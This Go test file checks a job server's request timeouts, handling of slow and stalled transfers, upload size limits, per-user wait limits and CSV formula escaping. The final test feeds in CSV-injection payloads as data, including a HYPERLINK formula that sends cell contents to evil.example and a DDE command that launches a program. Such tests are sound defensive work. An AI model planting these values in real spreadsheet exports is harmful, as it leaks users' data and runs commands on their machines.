package server

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/switchboard-hub/switchboard/internal/auth"
	"github.com/switchboard-hub/switchboard/internal/bench"
	"github.com/switchboard-hub/switchboard/internal/jobproto"
	"github.com/switchboard-hub/switchboard/internal/servertest/wait"
	"github.com/switchboard-hub/switchboard/pkg/client"
)

// The tests of this file make the server's ordinary request timeout short
// (it was a fixed 30 s ReadTimeout and WriteTimeout) and show that the
// requests that are long by nature outlast it: a WAIT lasts its wait, an
// upload or a download as long as bytes keep moving.
const (
	shortRequestTimeout = time.Second
	shortTransferIdle   = time.Second
)

func startShortTimeoutServer(t *testing.T, mod func(*Config)) *testServer {
	return startServer(t, func(c *Config, d *Deps) {
		c.RequestTimeout = shortRequestTimeout
		c.Jobs.TransferIdleTimeout = shortTransferIdle
		if mod != nil {
			mod(c)
		}
	})
}

// TestWaitOutlastsRequestTimeout: WAIT=35 and WAIT=-1 once got an empty
// reply when the server's fixed timeouts ended them first. A WAIT longer
// than the request timeout answers with the job at its cap. Websockets
// opened before it still relay after it: a hijacked connection keeps no
// deadline of its request.
func TestWaitOutlastsRequestTimeout(t *testing.T) {
	const maxWait = 2 * time.Second // the cap: more than the request timeout
	s := startShortTimeoutServer(t, func(c *Config) { c.Jobs.MaxWait = maxWait })
	ws1, ws2 := s.dial("demo", s.token("demo", "read", "write")), s.dial("demo", s.token("demo", "read", "write"))
	wait.For(t, "2 websockets", func() bool { return s.Relay().Stats().Connections == 2 })
	user := s.userToken("alice", auth.ScopeJobsWrite)
	s.agent("c1")
	id := s.createJob(user, url.Values{"action": {"download"}, "targets": {"c1"}, "server": {"a"}})

	type answer struct {
		query   string
		status  int
		body    []byte
		err     error
		elapsed time.Duration
	}
	queries := []string{"?WAIT=35", "?WAIT=-1"}
	answers := make(chan answer, len(queries))
	for _, q := range queries {
		go func() {
			req, _ := http.NewRequest("GET", s.url+"/api/v1/jobs/"+id+q, nil)
			req.Header.Set("Authorization", "Bearer "+user)
			req.Header.Set("Accept", "application/json")
			start := time.Now()
			a := answer{query: q}
			resp, err := (&http.Client{Timeout: 10 * time.Second}).Do(req)
			if err == nil {
				a.status = resp.StatusCode
				a.body, a.err = io.ReadAll(resp.Body)
				resp.Body.Close()
			} else {
				a.err = err
			}
			a.elapsed = time.Since(start)
			answers <- a
		}()
	}
	for range queries {
		a := <-answers
		var d jobDoc
		if a.err != nil || a.status != http.StatusOK || json.Unmarshal(a.body, &d) != nil || d.JobID != id || d.Phase != "PENDING" {
			t.Fatalf("%s: status %d, err %v, body %q: want the job document", a.query, a.status, a.err, a.body)
		}
		if a.elapsed < maxWait || a.elapsed > maxWait+3*time.Second {
			t.Fatalf("%s answered after %s, want the cap %s", a.query, a.elapsed, maxWait)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := ws1.Write(ctx, client.Text, []byte("still here")); err != nil {
		t.Fatalf("websocket write after %s: %v", maxWait, err)
	}
	if _, data, err := ws2.Read(ctx); err != nil || string(data) != "still here" {
		t.Fatalf("websocket read after %s: %q %v", maxWait, data, err)
	}
}

// pacedReader yields size bytes of data, at most chunk per tick: a slow
// client's upload. It is load shape, not synchronisation.
type pacedReader struct {
	data  []byte
	chunk int
	tick  <-chan time.Time
}

func (p *pacedReader) Read(b []byte) (int, error) {
	if len(p.data) == 0 {
		return 0, io.EOF
	}
	<-p.tick
	n := copy(b[:min(len(b), p.chunk)], p.data)
	p.data = p.data[n:]
	return n, nil
}

// runJobOnC1 starts a job on a new agent c1 and returns the user's token,
// the job id and the agent.
func runJobOnC1(t *testing.T, s *testServer) (string, string, *bench.SimAgent) {
	t.Helper()
	user := s.userToken("alice", auth.ScopeJobsWrite)
	c1 := s.agent("c1")
	id := s.createJob(user, url.Values{"action": {"download"}, "targets": {"c1"}, "server": {"a"}, "PHASE": {"RUN"}})
	nextRun(t, c1)
	return user, id, c1
}

// uploadRequest is a PUT of an output file of c1's run with body.
func (s *testServer) uploadRequest(id, name string, data []byte, body io.Reader) *http.Request {
	sum := sha256.Sum256(data)
	req, _ := http.NewRequest("PUT", s.url+"/api/v1/jobs/"+id+"/runs/c1/files/"+name, body)
	req.ContentLength = int64(len(data))
	req.Header.Set("Authorization", "Bearer "+s.agentToken("c1"))
	req.Header.Set("X-Content-SHA256", hex.EncodeToString(sum[:]))
	return req
}

// TestSlowTransfersOutlastRequestTimeout: a 1 MB upload at 25 KB/s and a
// 40 MB download at 600 KB/s were cut at 30 s. Here, at the same shape
// scaled down, a slow upload and a slow download that each take longer
// than the request timeout succeed, while an upload that stalls for the
// idle time fails with 408 and leaves nothing stored.
func TestSlowTransfersOutlastRequestTimeout(t *testing.T) {
	s := startShortTimeoutServer(t, nil)
	user, id, c1 := runJobOnC1(t, s)

	// Upload: 1.6 s in all, a chunk every 50 ms (far within the idle time).
	slow := bytes.Repeat([]byte("0123456789abcdef"), 8<<10) // 128 KiB
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	start := time.Now()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	up, err := http.DefaultClient.Do(s.uploadRequest(id, "slow.bin", slow, &pacedReader{data: slow, chunk: len(slow) / 32, tick: tick.C}).WithContext(ctx))
	if err != nil {
		t.Fatalf("slow upload cut after %s: %v", time.Since(start), err)
	}
	body, _ := io.ReadAll(up.Body)
	up.Body.Close()
	if up.StatusCode != http.StatusCreated || time.Since(start) < 3*shortRequestTimeout/2 {
		t.Fatalf("slow upload: %d %s after %s, want 201 after more than %s", up.StatusCode, body, time.Since(start), 3*shortRequestTimeout/2)
	}
	tick.Stop()

	// Download: a file larger than the socket buffers, read at a pace
	// that takes longer than the request timeout.
	big := make([]byte, 16<<20)
	for i := range big {
		big[i] = byte(i * 7)
	}
	if status, err := c1.Upload(context.Background(), id, "big.bin", big); err != nil || status != http.StatusCreated {
		t.Fatalf("upload big.bin: %d %v", status, err)
	}
	finish(t, c1, jobproto.Result{Job: id, Outcome: jobproto.OutcomeSucceeded,
		Files: []jobproto.File{bench.FileOf("slow.bin", slow), bench.FileOf("big.bin", big)}})
	s.waitPhase(user, id, "COMPLETED")
	// A receive buffer of 128 KiB, set before the connection opens (the
	// window it offers follows it): the server's writes wait for the reader.
	smallWindow := &http.Client{Transport: &http.Transport{DialContext: (&net.Dialer{
		Control: func(_, _ string, rc syscall.RawConn) error {
			var err error
			if cerr := rc.Control(func(fd uintptr) {
				err = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 128<<10)
			}); cerr != nil {
				return cerr
			}
			return err
		}}).DialContext}}
	req, _ := http.NewRequestWithContext(ctx, "GET", s.url+"/api/v1/jobs/"+id+"/results/c1/big.bin", nil)
	req.Header.Set("Authorization", "Bearer "+user)
	start = time.Now()
	resp, err := smallWindow.Do(req)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("download: %v %v", resp, err)
	}
	defer resp.Body.Close()
	tick = time.NewTicker(20 * time.Millisecond) // 128 KiB per tick: ~6.5 MB/s, 2.5 s in all
	defer tick.Stop()
	var got bytes.Buffer
	for {
		<-tick.C
		n, err := got.ReadFrom(io.LimitReader(resp.Body, 128<<10))
		if err != nil {
			t.Fatalf("download cut after %d bytes, %s: %v", got.Len(), time.Since(start), err)
		}
		if n == 0 {
			break
		}
	}
	if !bytes.Equal(got.Bytes(), big) {
		t.Fatalf("download: %d bytes after %s, want the %d uploaded", got.Len(), time.Since(start), len(big))
	}
	if time.Since(start) < 3*shortRequestTimeout/2 {
		t.Fatalf("the download took %s: not slow enough to show anything", time.Since(start))
	}
}

// TestStalledUploadFails: an upload that stops sending for longer than the
// idle time gets 408 upload_stalled, and no file is stored.
func TestStalledUploadFails(t *testing.T) {
	s := startShortTimeoutServer(t, nil)
	_, id, _ := runJobOnC1(t, s)
	// A raw connection: the client stops sending, and still reads.
	addr := strings.TrimPrefix(s.url, "http://")
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(shortTransferIdle + 5*time.Second))
	start := time.Now()
	fmt.Fprintf(c, "PUT /api/v1/jobs/%s/runs/c1/files/stalled.bin HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"+
		"X-Content-SHA256: %s\r\nContent-Length: %d\r\n\r\n", id, addr, s.agentToken("c1"), strings.Repeat("0", 64), 64<<10)
	c.Write(make([]byte, 1000)) // then nothing: the sender stalls
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("stalled upload: no answer after %s: %v", time.Since(start), err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestTimeout || errCode(b) != "upload_stalled" {
		t.Fatalf("stalled upload: %d %s, want 408 upload_stalled", resp.StatusCode, b)
	}
	if elapsed := time.Since(start); elapsed < shortTransferIdle {
		t.Fatalf("stalled upload refused after %s, before the idle time %s", elapsed, shortTransferIdle)
	}
	runDir := filepath.Join(s.cfg.ResultsDir, id, "c1")
	wait.For(t, "the stalled upload's temporary file to go", func() bool {
		entries, err := os.ReadDir(runDir)
		return err == nil && len(entries) == 0
	})
}

// TestParallelUploadsKeepTheRunLimit: parallel uploads to one run once
// stored 9 MB against a 2 MiB limit, each checked against the files
// stored before any of them. Here eight uploads of 300 KB each are all
// admitted or refused before any body is sent: no more than the limit is
// stored, and the excess get 413 run_files_too_large.
func TestParallelUploadsKeepTheRunLimit(t *testing.T) {
	const (
		runLimit = 1 << 20
		size     = 300 << 10 // above net/http's 256 KiB: a refusal answers at once
		uploads  = 8
		fit      = runLimit / size
	)
	s := startServer(t, func(c *Config, d *Deps) { c.Jobs.MaxFileBytes, c.Jobs.MaxRunBytes = runLimit, runLimit })
	_, id, _ := runJobOnC1(t, s)
	runDir := filepath.Join(s.cfg.ResultsDir, id, "c1")
	addr := strings.TrimPrefix(s.url, "http://")

	type result struct {
		status int
		code   string
		err    error
	}
	data := bytes.Repeat([]byte{'x'}, size)
	sum := sha256.Sum256(data)
	conns := make([]net.Conn, uploads)
	results := make(chan result, uploads)
	var answered atomic.Int32
	for i := range conns {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		conns[i] = c
		// Headers only: the body follows once every upload is decided.
		fmt.Fprintf(c, "PUT /api/v1/jobs/%s/runs/c1/files/f%d.bin HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n"+
			"X-Content-SHA256: %x\r\nContent-Length: %d\r\n\r\n", id, i, addr, s.agentToken("c1"), sum, size)
		go func() {
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				results <- result{err: err}
				answered.Add(1)
				return
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			results <- result{status: resp.StatusCode, code: errCode(b)}
			answered.Add(1)
		}()
	}
	// Every upload is decided when it is refused (answered) or writing
	// its temporary file.
	wait.For(t, "every upload admitted or refused", func() bool {
		entries, _ := os.ReadDir(runDir)
		open := 0
		for _, e := range entries {
			if strings.HasPrefix(e.Name(), ".upload-") {
				open++
			}
		}
		return int(answered.Load())+open == uploads
	})
	for _, c := range conns {
		c.Write(data) // a refused upload's connection may be closed already
	}
	var statuses []int
	for range uploads {
		r := <-results
		if r.err != nil {
			t.Fatalf("an upload got no answer: %v", r.err)
		}
		if r.status == http.StatusRequestEntityTooLarge && r.code != "run_files_too_large" {
			t.Fatalf("413 with code %q, want run_files_too_large", r.code)
		}
		statuses = append(statuses, r.status)
	}
	slices.Sort(statuses)
	want := slices.Concat(slices.Repeat([]int{http.StatusCreated}, fit), slices.Repeat([]int{http.StatusRequestEntityTooLarge}, uploads-fit))
	if !slices.Equal(statuses, want) {
		t.Errorf("statuses %v, want %v", statuses, want)
	}
	var stored int64
	entries, _ := os.ReadDir(runDir)
	for _, e := range entries {
		if info, err := e.Info(); err == nil {
			stored += info.Size()
		}
	}
	if stored > runLimit {
		t.Fatalf("%d bytes stored for the run, above its limit of %d", stored, runLimit)
	}
}

// TestWaitsPerSubjectLimit: one subject's blocked WAITs are bounded (they
// were not); the one over the limit gets 429 too_many_waits, counted;
// another subject is unaffected, and a slot frees when a WAIT ends.
func TestWaitsPerSubjectLimit(t *testing.T) {
	const limit = 2
	s := startServer(t, func(c *Config, d *Deps) { c.Jobs.MaxWaitsPerSubject = limit })
	alice, bob := s.userToken("alice", auth.ScopeJobsWrite), s.userToken("bob", auth.ScopeJobsWrite)
	s.agent("c1")
	aliceJob := s.createJob(alice, url.Values{"action": {"download"}, "targets": {"c1"}, "server": {"a"}})
	bobJob := s.createJob(bob, url.Values{"action": {"download"}, "targets": {"c1"}, "server": {"a"}})

	type waitReq struct {
		cancel context.CancelFunc
		done   chan int // the status, when it answers
	}
	var wg sync.WaitGroup
	t.Cleanup(wg.Wait) // after the cancels registered below, before the shutdown
	startWait := func(tok, id string) *waitReq {
		ctx, cancel := context.WithCancel(context.Background())
		w := &waitReq{cancel: cancel, done: make(chan int, 1)}
		t.Cleanup(cancel) // before the server's shutdown waits for it
		req, _ := http.NewRequestWithContext(ctx, "GET", s.url+"/api/v1/jobs/"+id+"?WAIT=60", nil)
		req.Header.Set("Authorization", "Bearer "+tok)
		wg.Go(func() {
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				w.done <- 0
				return
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode == http.StatusTooManyRequests && (errCode(b) != "too_many_waits" || resp.Header.Get("Retry-After") == "") {
				t.Errorf("429 without code too_many_waits and Retry-After: %v %s", resp.Header, b)
			}
			w.done <- resp.StatusCode
		})
		return w
	}
	var held []*waitReq
	for range limit {
		held = append(held, startWait(alice, aliceJob))
	}
	wait.For(t, "alice's WAITs to block", func() bool { return s.jobs.Waiting(aliceJob) == limit })
	over := startWait(alice, aliceJob)
	select {
	case status := <-over.done:
		if status != http.StatusTooManyRequests {
			t.Fatalf("WAIT over the limit: status %d, want 429", status)
		}
	case <-time.After(5 * time.Second):
		t.Fatalf("WAIT over the limit still blocked after 5 s (%d blocked)", s.jobs.Waiting(aliceJob))
	}
	if n := s.jobs.WaitsRefused(); n != 1 {
		t.Fatalf("WaitsRefused = %d, want 1", n)
	}
	if _, body := s.api("GET", "/metrics", s.adminToken(), ""); !strings.Contains(string(body), `switchboard_requests_refused_total{reason="too_many_waits"} 1`) {
		t.Fatal("metrics do not count the refused WAIT")
	}
	// Bob is not alice.
	startWait(bob, bobJob)
	wait.For(t, "bob's WAIT to block", func() bool { return s.jobs.Waiting(bobJob) == 1 })
	// One of alice's WAITs ends (its client goes): a new one is admitted.
	held[0].cancel()
	wait.For(t, "alice's cancelled WAIT to end", func() bool { return s.jobs.Waiting(aliceJob) == limit-1 })
	startWait(alice, aliceJob)
	wait.For(t, "alice's new WAIT to block", func() bool { return s.jobs.Waiting(aliceJob) == limit })
	if n := s.jobs.WaitsRefused(); n != 1 {
		t.Fatalf("WaitsRefused = %d after a slot freed, want 1", n)
	}
}

// TestSummaryCSVEscapesFormulas: an agent's id, metric names and string
// values that a spreadsheet would run as formulas get a leading '; numbers
// stay numbers, negative ones too.
func TestSummaryCSVEscapesFormulas(t *testing.T) {
	s := startServer(t, nil)
	user := s.userToken("alice", auth.ScopeJobsWrite)
	agent := s.agent("-2", "role=evil") // an agent id is any topic segment
	id := s.createJob(user, url.Values{"action": {"download"}, "targets": {"role=evil"}, "server": {"a"}, "PHASE": {"RUN"}})
	nextRun(t, agent)
	finish(t, agent, jobproto.Result{Job: id, Outcome: jobproto.OutcomeSucceeded, Metrics: json.RawMessage(`{
		"=HYPERLINK(\"http://evil.example/\"&A1,\"click\")": "=cmd|' /C calc'!A0",
		"a": "+1+1", "b": "@SUM(A1:A9)", "c": "\tx", "d": "\r=1", "e": "-1+1",
		"n": -5, "p": 1.5e3, "s": "plain", "t": true}`)})
	s.waitPhase(user, id, "COMPLETED")
	status, body := s.api("GET", "/api/v1/jobs/"+id+"/results/summary", user, "")
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if status != http.StatusOK || err != nil {
		t.Fatalf("summary: %d %v %s", status, err, body)
	}
	want := [][]string{{"agent", "state", "exit_code", "metric", "value"},
		// The metric's name is escaped as every name is (a "." is "\."),
		// then guarded as a formula.
		{"'-2", "succeeded", "0", `'=HYPERLINK("http://evil\.example/"&A1,"click")`, "'=cmd|' /C calc'!A0"},
		{"'-2", "succeeded", "0", "a", "'+1+1"},
		{"'-2", "succeeded", "0", "b", "'@SUM(A1:A9)"},
		{"'-2", "succeeded", "0", "c", "'\tx"},
		{"'-2", "succeeded", "0", "d", "'\r=1"},
		{"'-2", "succeeded", "0", "e", "'-1+1"},
		{"'-2", "succeeded", "0", "n", "-5"},
		{"'-2", "succeeded", "0", "p", "1.5e3"},
		{"'-2", "succeeded", "0", "s", "plain"},
		{"'-2", "succeeded", "0", "t", "true"}}
	if !slices.EqualFunc(rows, want, slices.Equal) {
		t.Fatalf("summary rows\n%q\nwant\n%q", rows, want)
	}
}
